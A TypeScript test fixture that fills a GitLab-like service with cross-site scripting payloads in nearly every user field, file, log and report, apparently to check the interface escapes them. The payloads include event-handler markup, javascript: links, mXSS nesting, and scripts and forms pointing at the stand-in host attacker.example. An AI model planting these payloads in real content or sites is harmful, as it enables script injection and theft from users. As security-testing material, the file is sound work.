import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { buffer } from 'node:stream/consumers'
import { gzipSync } from 'node:zlib'

import type { JobPayload } from '../../../../src/protocol/job-payload.js'
import { type Person, type ServedProject, Service } from '../../../conformance/support/service.js'
import { ED25519_KEY } from '../../../coordinator/accounts/users/example-keys.js'
import { INFO, type RunnerClient } from '../../../coordinator/support/runner-client.js'
import { zipOf } from '../../../coordinator/support/zip.js'
import { pdfOf } from '../../../pages/support/sample-files.js'
import { onFinished } from '../../../support/lifetime.js'

/** A host that no page may ask for anything. */
export const FOREIGN = 'https://attacker.example'

/** Markup that ends attributes and elements, runs a script and loads a picture; where a name may not contain a slash. */
const FLAT = `"'><img data-hostile src=x onerror=ran()><svg onload=ran()>\${{ran()}}`

/** A text of a user: the field that it is in, which makes it unique, and the markup. */
export const hostile = (field: string) => `${field}: ${FLAT}</script><script src="${FOREIGN}/a.js"></script>`

/** As `hostile`, without a slash, for names of files and of refs. */
export const hostileName = (field: string) => `${field}"'><img data-hostile onerror=ran()>`

/** A ref name: git allows no spaces and no colons in it. */
export const hostileRef = (field: string) => `${field}"'><svg/onload=ran()>`

const SCRIPT = 'javascript:ran()'

export const MARKDOWN = [
  '<img data-hostile src=x onerror=ran()>',
  `<script src="${FOREIGN}/a.js"></script>`,
  `[a link](${SCRIPT})`,
  `[a spaced link]( java\tscript:ran())`,
  '[a page](data:text/html,<script>ran()</script>)',
  `<a href="${SCRIPT}">an anchor</a>`,
  `<a href="&#106;avascript:ran()" onclick="ran()">an encoded anchor</a>`,
  `![a picture](x" onerror="ran())`,
  `<details open ontoggle=ran()><summary>more</summary></details>`,
  '<style>body { display: none }</style><form action="//attacker.example"><button name="x">go</button></form>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '```html"><img data-hostile onerror=ran()>\n</code></pre><img data-hostile src=x onerror=ran()>\n```',
  'The end of the text.',
].join('\n\n')

const CI_FILE = `
workflow: { name: ${JSON.stringify(hostile('pipeline'))} }
stages: [${JSON.stringify(hostile('stage'))}, second]
${JSON.stringify(hostile('job'))}:
  stage: ${JSON.stringify(hostile('stage'))}
  script: make
  tags: [${JSON.stringify(hostileName('tag'))}]
  environment: { name: production, url: '${SCRIPT}' }
  artifacts: { paths: [dist], reports: { junit: report.xml } }
`

const LOG = [
  hostile('log'),
  `\u001B]8;;${SCRIPT}\u001B\\a link of the log\u001B]8;;\u001B\\`,
  `\u001B]8;;${FOREIGN}"onmouseover="ran()\u001B\\another link of the log\u001B]8;;\u001B\\`,
  `\u001B[31m${hostile('red')}\u001B[0m`,
  `\u001B[38;2;1;2;3);background:url(${FOREIGN}/p.png)m styled`,
  `\u001B]0;${hostile('title of a terminal')}\u0007`,
  `section_start:1764000000:${hostileName('section').replaceAll(' ', '')}\r\u001B[0K${hostile('section')}`,
  'section_end:1764000001:x\r\u001B[0K',
  `${SCRIPT} ${FOREIGN}/"onclick="ran()`,
].join('\n')

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')

const REPORT = `<testsuite name="${escaped(hostile('suite'))}"><testcase name="${escaped(hostile('test'))}"
  classname="${escaped(hostile('class'))}"><failure>${escaped(hostile('failure'))}</failure></testcase></testsuite>`

/** Files of the repository, among them one for each way in which a file is shown. */
const FILES = {
  'README.md': MARKDOWN,
  '.gitlab-ci.yml': CI_FILE,
  'page.html': `<!doctype html>${hostile('page')}`,
  'code.js': `const a = \`${hostile('code')}\` // </span><img data-hostile onerror=ran()>`,
  'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"><script>ran()</script></svg>`,
  'report.pdf': pdfOf(
    'A report',
    'app.launchURL("javascript:parent.ran()"); this.submitForm("https://attacker.example/")',
  ),
  // Their names promise what their content is not.
  'page.pdf': `<!doctype html><script>parent.ran()</script>`,
  'page.mp4': `<!doctype html><script>parent.ran()</script>`,
  [hostileName('file')]: hostile('content'),
}

export interface HostileScene {
  service: Service
  attacker: Person
  project: ServedProject
  runner: RunnerClient
  group: string
  pipeline: number
  /** A pipeline whose CI file is refused. */
  refused: number
  job: JobPayload
  sha: string
  snippet: number
  ownSnippet: number
  hook: number
  schedule: number
  environment: number
  runnerId: number
}

/** Serves a response to webhooks that is a page. Resolves to its address. */
async function listenWithHostileResponse(): Promise<string> {
  const server = createServer((request, response) => {
    request.resume()
    response.writeHead(400, { 'content-type': 'text/html', 'x-hostile': hostileName('header') })
    response.end(hostile('response'))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onFinished(() => {
    server.closeAllConnections()
    return new Promise((resolve) => server.close(resolve))
  })
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
}

/** An instance whose users have put hostile texts into every field that takes them. */
export async function openHostileScene(): Promise<HostileScene> {
  const service = await Service.start({ SWITCHYARD_OUTBOUND_ALLOW_LOCAL_NETWORK: 'true' })
  const attacker = await service.addPerson('attacker')
  const set = (path: string, body: object, as = attacker) => service.json('PUT', path, body, as)
  const make = <T = { id: number }>(path: string, body: object, as = attacker) =>
    service.json<T>('POST', path, body, as)

  await set(
    `/users/${attacker.id}`,
    {
      name: hostile('user').slice(0, 255),
      admin: true,
      ...Object.fromEntries(
        ['bio', 'location', 'organization', 'job_title', 'pronouns'].map((field) => [
          field,
          hostile(field).slice(0, field === 'pronouns' ? 200 : 250),
        ]),
      ),
    },
    service.root,
  )
  const group = await make('/groups', {
    name: 'Group',
    path: 'hostile',
    description: hostile('group'),
    visibility: 'public',
  })
  const runner = await service.addRunner({
    description: hostile('runner'),
    tag_list: [hostileName('tag')],
    maintenance_note: hostile('note'),
  })
  const project = await service.addProject({}, attacker, {
    name: 'hostile',
    namespace_id: group.id,
    description: hostile('project'),
    visibility: 'public',
    topics: [hostileName('topic')],
  })
  const [topic] = await service.json<{ id: number }[]>('GET', '/topics', undefined, attacker)
  await set(`/topics/${topic?.id}`, { title: hostile('title of a topic'), description: MARKDOWN })
  await make('/broadcast_messages', {
    message: `[a link](${SCRIPT}) <img data-hostile src=x onerror=ran()> The end of the message.`,
    target_path: '/admin/broadcast_messages',
  })
  const source = { source_full_path: hostile('group of a source'), destination_slug: 'copy' }
  const { id: bulkImport } = await make(
    '/bulk_imports',
    {
      configuration: { url: 'https://203.0.113.1', access_token: 'none' },
      entities: [{ source_type: 'group_entity', ...source }],
    },
    service.root,
  )
  await make(`/bulk_imports/${bulkImport}/cancel`, {}, service.root)
  const P = `/projects/${project.id}`
  const label = await make(`${P}/labels`, { name: hostile('label'), color: '#ff0000' })
  const milestone = await make(`${P}/milestones`, { title: hostile('milestone') })
  for (const owner of [P, `/groups/${group.id}`]) await make(`${owner}/boards`, { name: hostile('board') })
  await make(`${P}/boards/1/lists`, { label_id: label.id })
  const issue = await make<{ id: number; iid: number }>(`${P}/issues`, {
    title: hostile('issue'),
    description: `![a foreign picture](${FOREIGN}/a.png)\n\n${MARKDOWN}`,
    labels: [hostile('label')],
    milestone_id: milestone.id,
    assignee_ids: [attacker.id],
  })
  await make(`${P}/issues/${issue.iid}/notes`, { body: MARKDOWN })
  const epics = `/groups/${group.id}/epics`
  const epic = await make(epics, { title: hostile('epic'), description: MARKDOWN })
  await make(`${epics}/1/issues/${issue.id}`, {})
  await make(`${epics}/1/epics`, { title: hostile('child') })
  await make(`${epics}/1/related_epics`, { target_group_id: group.id, target_epic_iid: 2 })
  await make(`${epics}/${epic.id}/notes`, { body: MARKDOWN })
  await make(`${P}/issues/${issue.iid}/todo`, {})
  await set(`${P}/issues/${issue.iid}`, { title: `${hostile('issue')} again` })
  await make(`${P}/variables`, {
    key: 'HOSTILE',
    value: hostile('value'),
    description: hostile('variable'),
    environment_scope: 'production',
  })
  const { id: sha } = await make<{ id: string }>(`${P}/repository/commits`, {
    branch: 'main',
    commit_message: `${hostile('commit')}\n\n${hostile('body of the commit')}`,
    // Git takes brackets out of names.
    author_name: `author "' onmouseover=ran() &lt;img data-hostile src=x onerror=ran()&gt;`,
    author_email: 'attacker@example.com',
    actions: Object.entries(FILES).map(([file_path, content]) => ({ action: 'create', file_path, content })),
  })
  await make(`${P}/repository/commits`, {
    branch: hostileRef('branch'),
    start_branch: 'main',
    commit_message: `${hostile('commit of a branch')} [skip ci]`,
    actions: [{ action: 'create', file_path: hostileName('file of a branch'), content: hostile('line') }],
  })
  await make(`${P}/external_status_checks`, {
    name: hostile('check'),
    external_url: 'https://checks.example/hostile',
  })
  await make(`${P}/approval_rules`, {
    name: hostile('rule'),
    approvals_required: 1,
    user_ids: [attacker.id],
  })
  const request = await make<{ iid: number }>(`${P}/merge_requests`, {
    source_branch: hostileRef('branch'),
    target_branch: 'main',
    title: hostile('request'),
    description: MARKDOWN,
    labels: [hostile('label')],
    milestone_id: milestone.id,
    reviewer_ids: [attacker.id],
  })
  await make(`${P}/merge_requests/${request.iid}/notes`, { body: MARKDOWN })
  // The merge request may have a pipeline of its own.
  const [pipeline] = await service.json<{ id: number }[]>('GET', `${P}/pipelines?ref=main`)
  const job = await runner.takeJob({
    info: { ...INFO, features: { ...INFO.features, upload_multiple_artifacts: true } },
  })
  await runner.patch(job, `0-${Buffer.byteLength(LOG) - 1}`, LOG)
  const files = {
    [`dist/${hostileName('artifact')}`]: hostile('artifact'),
    'dist/page.html': FILES['page.html'],
  }
  await runner.upload(job, await buffer(await zipOf(files)))
  await runner.upload(job, gzipSync(REPORT), {
    filename: 'junit.xml.gz',
    query: 'artifact_type=junit&artifact_format=gzip',
  })
  await runner.update(job, 'failed', { failure_reason: 'script_failure', exit_code: 1 })
  const schedule = await make(`${P}/pipeline_schedules`, {
    description: hostile('schedule'),
    ref: 'main',
    cron: '0 1 * * *',
    active: false,
  })
  await make(`${P}/repository/commits/${sha}/comments`, { note: MARKDOWN })
  const line = { path: 'code.js', line: 1, line_type: 'new' }
  await make(`${P}/repository/commits/${sha}/comments`, { note: hostile('comment on a line'), ...line })
  const badge = { link_url: `${FOREIGN}/"onclick="ran()`, image_url: `${FOREIGN}/a.svg` }
  await make(`${P}/badges`, { name: hostile('badge'), ...badge })
  await make(`/groups/${group.id}/badges`, { name: hostile('badge of a group'), ...badge })
  await make(`/groups/${group.id}/variables`, {
    key: 'OF_GROUP',
    value: 'x',
    description: hostile('variable of a group'),
  })
  await make(`/groups/${group.id}/hooks`, { url: FOREIGN, name: hostile('hook of a group') })
  await make(`${P}/deploy_tokens`, { name: hostile('deploy token'), scopes: ['read_repository'] })
  await make('/user/applications', { name: hostile('own application'), redirect_uri: FOREIGN, scopes: 'api' })
  await make(`${P}/repository/tags`, {
    tag_name: hostileRef('v1'),
    ref: 'main',
    message: hostile('message of a tag'),
  })
  await make(`${P}/releases`, { tag_name: hostileRef('v1'), name: hostile('release'), description: MARKDOWN })
  await make(`${P}/releases/${encodeURIComponent(hostileRef('v1'))}/assets/links`, {
    name: hostile('link of a release'),
    url: FOREIGN,
  })
  const hook = await make(`${P}/hooks`, { url: await listenWithHostileResponse(), name: hostile('hook') })
  await make(`${P}/hooks/${hook.id}/test/push_events`, {})
  await make('/user/keys', { title: hostile('key'), key: ED25519_KEY.line })
  const passkey = {
    credential_id: 'x',
    public_key: 'x',
    counter: 0,
    transports: '[]',
    name: hostile('passkey'),
  }
  await service.writeStore((database) =>
    database
      .insertInto('passkey')
      .values({ ...passkey, user_id: attacker.id, created_at: Date.now(), last_used_at: null })
      .execute(),
  )
  await make('/admin/ci/variables', { key: 'HOSTILE', value: 'x', description: hostile('instance variable') })
  await make('/applications', { name: hostile('application'), redirect_uri: FOREIGN, scopes: 'api' })
  await make(`${P}/triggers`, { description: hostile('trigger') })
  await make(`${P}/access_tokens`, { name: hostile('token'), scopes: ['api'], expires_at: '2026-12-24' })
  await make(`${P}/statuses/${sha}`, {
    state: 'failed',
    name: hostile('status'),
    description: hostile('description of a status'),
    target_url: `${FOREIGN}/"onclick="ran()`,
  })
  await service.push(
    project,
    { '.gitlab-ci.yml': `${JSON.stringify(hostile('broken'))}: 1\n` },
    hostileRef('broken'),
  )
  const [refused] = await service.json<{ id: number }[]>('GET', `${P}/pipelines?order_by=id`)
  await make(`${P}/wikis`, { title: 'home', content: MARKDOWN, message: hostile('message of a page') })
  await make(`${P}/wikis`, {
    title: hostileName('page'),
    content: `[[${hostileName('wiki link')}]]\n\n${MARKDOWN}`,
  })
  await make(`${P}/wikis`, { title: 'other', content: hostile('text of a page'), format: 'org' })
  await make(`/groups/${group.id}/wikis`, { title: 'home', content: MARKDOWN })
  const snippet = {
    title: hostile('snippet'),
    description: MARKDOWN,
    visibility: 'public',
    files: [
      { file_path: hostileName('file of a snippet'), content: hostile('code of a snippet') },
      { file_path: 'page.html', content: FILES['page.html'] },
    ],
  }
  const { id: snippetId } = await make(`${P}/snippets`, snippet)
  await make(`${P}/snippets/${snippetId}/notes`, { body: MARKDOWN })
  const { id: ownSnippetId } = await make('/snippets', snippet)
  const [environment] = await service.json<{ id: number }[]>('GET', `${P}/environments`)
  const [known] = await service.json<{ id: number }[]>('GET', '/runners/all')
  return {
    service,
    attacker,
    project,
    runner,
    group: 'hostile',
    pipeline: pipeline?.id ?? 0,
    refused: refused?.id ?? 0,
    job,
    sha,
    snippet: snippetId,
    ownSnippet: ownSnippetId,
    hook: hook.id,
    schedule: schedule.id,
    environment: environment?.id ?? 0,
    runnerId: known?.id ?? 0,
  }
}
